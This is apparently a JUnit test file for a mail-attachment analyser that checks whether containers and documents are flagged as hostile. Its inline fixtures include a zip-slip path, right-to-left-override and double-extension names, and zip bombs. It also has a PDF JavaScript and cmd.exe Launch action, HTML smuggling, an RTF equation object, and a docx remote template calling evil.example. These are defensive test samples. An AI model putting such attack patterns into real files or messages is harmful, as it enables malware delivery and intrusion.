/*
 * Copyright (c) 2026 Watchpost contributors.
 *
 * This program and the accompanying materials are made available under the terms of the
 * Eclipse Public License 2.0 which is available at https://www.eclipse.org/legal/epl-2.0/
 *
 * SPDX-License-Identifier: EPL-2.0
 */
package org.watchpost.mail.tree;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.TreeMap;
import java.util.concurrent.TimeUnit;
import java.util.random.RandomGenerator;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.watchpost.mail.Ports;
import org.watchpost.testing.Seeded;
import org.watchpost.testing.Shared;

/** Containers: what they are, what attackers make of them, and that no bytes do harm. */
class ContainersTest {

    private static Node open(String name, byte[] bytes) {
        Node node = new Node(null, name);
        node.path = "1";
        Opening opening = new Opening(Limits.DEFAULT, Ports.archives(), List.of(), bytes.length, "");
        opening.text(() -> "The password is: hunter2");
        opening.fill(node, bytes, 0, bytes.length);
        return node;
    }

    private static List<String> facts(Node node) {
        List<String> all = new ArrayList<>();
        collect(node, all);
        return all;
    }

    private static void collect(Node node, List<String> all) {
        node.facts().forEach(fact -> all.add(fact.name()));
        node.children().forEach(child -> collect(child, all));
    }

    private static byte[] zip(Map<String, byte[]> members) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            for (Map.Entry<String, byte[]> member : members.entrySet()) {
                zip.putNextEntry(new ZipEntry(member.getKey()));
                zip.write(member.getValue());
                zip.closeEntry();
            }
        } catch (IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    private static byte[] text(String text) {
        return text.getBytes(StandardCharsets.ISO_8859_1);
    }

    @Test
    void namesThatDeceive() {
        byte[] program = text("MZ" + "x".repeat(100));
        Map<String, byte[]> members = new TreeMap<>();
        members.put("../../evil.txt", text("x"));
        members.put("photo\u202egpj.exe", program);
        members.put("letter.doc          .scr", program);
        List<String> facts = facts(open("a.zip", zip(members)));
        assertTrue(facts.containsAll(List.of("archive.slip", "name.rtlo", "name.double", "archive.program.packed")), facts.toString());
    }

    @Test
    void nestingIsBounded() {
        byte[] inner = zip(Map.of("a.txt", text("x")));
        for (int i = 0; i < 40; i++) {
            inner = zip(Map.of("level" + i + ".zip", inner));
        }
        Node node = open("deep.zip", inner);
        int depth = 0;
        for (Node at = node; !at.children().isEmpty(); at = at.children().get(0)) {
            depth++;
        }
        assertEquals(Limits.DEFAULT.depth(), depth);
        assertTrue(facts(node).contains("archive.bomb"));
    }

    @Test
    void bombsAreStopped() {
        byte[] zeros = new byte[40 << 20];
        Node node = open("bomb.zip", zip(Map.of("zeros.bin", zeros)));
        assertTrue(facts(node).contains("archive.bomb"), facts(node).toString());
        byte[] many = zip(manyMembers(3000));
        assertTrue(facts(open("many.zip", many)).contains("archive.bomb"));
    }

    private static Map<String, byte[]> manyMembers(int count) {
        Map<String, byte[]> members = new TreeMap<>();
        for (int i = 0; i < count; i++) {
            members.put("f" + i, text("x" + i));
        }
        return members;
    }

    @Test
    void passwordsOfTheTextAreTried() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        net.lingala.zip4j.model.ZipParameters parameters = new net.lingala.zip4j.model.ZipParameters();
        parameters.setEncryptFiles(true);
        for (net.lingala.zip4j.model.enums.EncryptionMethod method : List.of(net.lingala.zip4j.model.enums.EncryptionMethod.AES,
                net.lingala.zip4j.model.enums.EncryptionMethod.ZIP_STANDARD)) {
            out.reset();
            parameters.setEncryptionMethod(method);
            parameters.setFileNameInZip("inside.exe");
            try (net.lingala.zip4j.io.outputstream.ZipOutputStream zip = new net.lingala.zip4j.io.outputstream.ZipOutputStream(out,
                    "hunter2".toCharArray())) {
                zip.putNextEntry(parameters);
                zip.write(text("MZ" + "y".repeat(5000)));
                zip.closeEntry();
            }
            Node node = open("locked.zip", out.toByteArray());
            assertEquals(1, node.children().size());
            assertEquals(5002, node.children().get(0).size(), method + " " + node.notes());
            assertTrue(facts(node).contains("archive.encrypted"));
        }
    }

    @Test
    void documentsWithAction() {
        assertTrue(facts(open("a.pdf", text("%PDF-1.4\n1 0 obj <</OpenAction <</S /J#61vaScript /JS (app.alert(1))>> >> endobj"))).contains(
                "pdf.javascript"));
        assertTrue(facts(open("a.pdf", text("%PDF-1.4\n1 0 obj <</S /Launch /F (cmd.exe)>> endobj"))).contains("pdf.launch"));
        assertTrue(facts(open("a.html", text("<html><script>var b=new Blob([atob('" + "QUJD".repeat(900)
                + "')]);a.href=URL.createObjectURL(b);a.download='x.iso'</script></html>"))).contains("html.smuggling"));
        assertTrue(facts(open("a.rtf", text("{\\rtf1{\\object\\objupdate{\\*\\objdata 0105000002000000" + "0b0000004571756174696f6e2e3300"
                + "000000}}}"))).containsAll(List.of("rtf.update", "office.equation")));
        assertTrue(facts(open("a.docx", zip(Map.of("[Content_Types].xml", text("<Types/>"), "word/_rels/settings.xml.rels",
                text("<Relationships><Relationship Type=\"http://x/attachedTemplate\" Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/>"
                        + "</Relationships>")))))
                .contains("office.remote"));
        assertTrue(facts(open("x.lnk", concat(new byte[] { 'L', 0, 0, 0, 1, 0x14, 2, 0 }, new byte[100]))).contains("lnk.command"));
    }

    private static byte[] concat(byte[] one, byte[] other) {
        byte[] all = Arrays.copyOf(one, one.length + other.length);
        System.arraycopy(other, 0, all, one.length, other.length);
        return all;
    }

    @Test
    void membersOfSamples() throws IOException {
        Optional<Path> folder = Shared.data("samples");
        if (folder.isEmpty()) {
            return;
        }
        Map<String, Integer> expected = Map.of("att-rar-7z/commons-compress__bla.arj", 2,
                "att-cab-iso/libmspack__normal_2files_1folder.cab", 2,
                "att-zip/zip-slip-vulnerability__zip-slip.zip", 2, "att-rar-7z/commons-compress__BZip2.7z", 1,
                "att-cab-iso/clamav__iso_normal.logo.iso", 1);
        for (Map.Entry<String, Integer> entry : expected.entrySet()) {
            Node node = open(entry.getKey(), Files.readAllBytes(folder.get().resolve(entry.getKey())));
            assertTrue(node.children().size() >= entry.getValue(), entry.getKey() + " " + node.children().size() + " " + node.notes());
        }
    }

    /** Each kind of container, damaged at random: a result always comes, in time, and nothing is thrown. */
    @Test
    @Timeout(value = 120, unit = TimeUnit.SECONDS)
    void damagedContainersAreHarmless() throws IOException {
        RandomGenerator random = Seeded.random(this);
        List<byte[]> seeds = new ArrayList<>(List.of(zip(Map.of("a.txt", text("hello"), "b.exe", text("MZ...")))));
        for (String name : List.of("att-zip", "att-rar-7z", "att-cab-iso", "att-office", "att-pdf", "tnef", "msg-outlook")) {
            Optional<Path> folder = Shared.data("samples/" + name);
            if (folder.isEmpty()) {
                continue;
            }
            try (Stream<Path> files = Files.list(folder.get())) {
                List<Path> all = new ArrayList<>(files.sorted().toList());
                for (int i = 0; i < 12; i++) {
                    Path file = all.get(random.nextInt(all.size()));
                    if (Files.size(file) < 60_000) {
                        seeds.add(Files.readAllBytes(file));
                    }
                }
            }
        }
        long slowest = 0;
        for (int round = 0; round < 600; round++) {
            byte[] bytes = seeds.get(random.nextInt(seeds.size())).clone();
            int damage = 1 + random.nextInt(8);
            for (int i = 0; i < damage && bytes.length > 0; i++) {
                bytes[random.nextInt(bytes.length)] = (byte) random.nextInt(256);
            }
            if (random.nextInt(4) == 0) {
                bytes = Arrays.copyOf(bytes, random.nextInt(bytes.length + 1));
            }
            long begin = System.nanoTime();
            Node node = open("x.bin", bytes);
            slowest = Math.max(slowest, System.nanoTime() - begin);
            assertEquals(bytes.length, node.size());
        }
        long millis = TimeUnit.NANOSECONDS.toMillis(slowest);
        assertTrue(millis < Limits.DEFAULT.millis() + 60_000, () -> millis + " ms for one container");
    }
}
